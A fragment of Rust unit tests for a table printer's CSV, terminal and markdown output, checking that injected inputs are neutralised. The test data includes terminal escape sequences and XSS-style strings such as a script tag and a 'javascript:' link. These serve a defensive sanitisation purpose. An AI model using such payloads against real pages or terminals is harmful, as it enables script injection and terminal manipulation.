        assert!(cell == text || *cell == format!("'{text}"), "{cell:?} is {text:?}");
    }
}

#[test]
fn a_number_stays_a_number_in_csv() {
    let mut table =
        Table::new("made-up", Text::same("made-up")).column("number", ColumnKind::Number, Text::same("number"), Text::same("number"));
    table.rows = vec![Row {
        cells: vec![Cell::Number(-5.0)],
        ..Row::default()
    }];
    assert_eq!(print::csv(&table, Lang::En), "number\r\n-5\r\n");
}

#[test]
fn text_gives_a_terminal_no_commands() {
    let table = of_texts(&["\u{1b}]0;title\u{7}\u{1b}[2J red", "two\nlines"]);
    let printed = print::terminal(&table, Lang::En);
    assert!(!printed.contains('\u{1b}') && !printed.contains('\u{7}'), "{printed:?}");
    assert!(printed.contains("two lines"));
}

#[test]
fn text_stays_in_its_cell_in_markdown() {
    let table = of_texts(&[
        "a | b",
        "<script>alert(1)</script>",
        "[x](javascript:alert(1))",
        "one\ntwo",
        "`code` *bold* \\|",
    ]);
    let printed = print::markdown(&table, Lang::En);
    let rows: Vec<_> = printed.lines().filter(|line| line.starts_with("| ")).collect();
    assert_eq!(
        rows[2..],
        [
            "| a \\| b |",
            "| &lt;script>alert(1)&lt;/script> |",
            "| \\[x\\](javascript:alert(1)) |",
            "| one<br>two |",
            "| \\`code\\` \\*bold\\* \\\\\\| |",
        ]
    );
}
